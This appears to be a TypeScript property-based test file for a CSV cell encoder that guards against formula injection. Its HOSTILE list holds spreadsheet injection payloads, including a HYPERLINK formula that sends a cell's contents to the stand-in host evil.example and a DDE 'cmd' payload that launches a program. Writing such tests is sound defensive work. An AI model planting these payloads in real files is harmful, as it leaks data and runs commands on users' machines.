import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { fromCell, toCell } from './csv-cell.ts';

/** What spreadsheets are known to begin a formula with, a space or a wide form of it in front or not (OWASP, CSV injection). */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '；＝1+1',
  ';=1+1',
  'Mara;=HYPERLINK("http://evil.example?"&A1)',
  "two\n=cmd|'/C calc'!A0",
  '"=1+1',
  '";=1+1;"',
  ',=1+1',
];

const cells = fc.array(
  fc.oneof(
    fc.constantFrom(...HOSTILE),
    fc.string(),
    fc
      .array(fc.constantFrom('=', '-', '"', ';', ',', '\t', '\n', '\r', ' ', 'a', '@'), { maxLength: 8 })
      .map((signs) => signs.join('')),
  ),
  { minLength: 1, maxLength: 5 },
);

const read = (line: string): string[] => parse(`${line}\r\n`).flat();

/** What a spreadsheet that separates by semicolons may make of a line: to it our quotes stand inside of cells and mean nothing. */
const readBySemicolons = (line: string) => line.split(/[;\t\r\n]/).map((cell) => cell.replace(/^"(?!")/, ''));

test('no text begins a formula in any cell, whatever separates the reader’s cells', () => {
  fc.assert(
    fc.property(cells, (texts) => {
      const line = texts.map((text) => toCell(text)).join(',');
      for (const cell of [...read(line), ...readBySemicolons(line)])
        assert.doesNotMatch(cell, /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/, JSON.stringify(line));
    }),
    { numRuns: 1_000 },
  );
});

test('a line read again holds the texts that were written, and what is harmless stays as it was', () => {
  fc.assert(
    fc.property(cells, (texts) => {
      assert.deepEqual(read(texts.map((text) => toCell(text)).join(',')).map(fromCell), texts.map(fromCell));
    }),
    { numRuns: 500 },
  );
  assert.equal(toCell('Blue Bicycle #12 – done'), 'Blue Bicycle #12 – done');
  assert.equal(toCell(-2.5), '-2.5');
});

test('a text of a million line ends or blanks is looked at once, not once from each of them', () => {
  for (const sign of ['\n', ' ', ';', '\t'])
    for (const text of [sign.repeat(1_000_000), `${sign.repeat(1_000_000)}x`])
      assert.equal(fromCell(toCell(text)).replaceAll('"', ''), text);
});
